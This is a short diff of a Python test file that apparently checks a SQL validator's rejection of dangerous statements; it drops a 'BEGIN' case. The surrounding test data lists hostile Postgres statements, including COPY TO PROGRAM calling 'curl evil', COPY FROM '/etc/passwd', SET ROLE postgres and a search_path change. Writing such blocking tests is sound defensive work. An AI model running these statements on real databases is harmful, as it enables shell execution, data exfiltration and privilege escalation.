@@ -111,7 +111,6 @@ def test_depth_and_size_of_the_tree_are_bounded(sql: str) -> None:
         ("SET ROLE postgres", "session"),
         ("RESET ALL", "session"),
         ("DISCARD ALL", "session"),
-        ("BEGIN", "session"),
         ("COPY public.invoices TO PROGRAM 'curl evil'", "copy"),
         ("COPY public.invoices FROM '/etc/passwd'", "copy"),
         ("ALTER DATABASE orders SET search_path = evil", "statement_kind"),
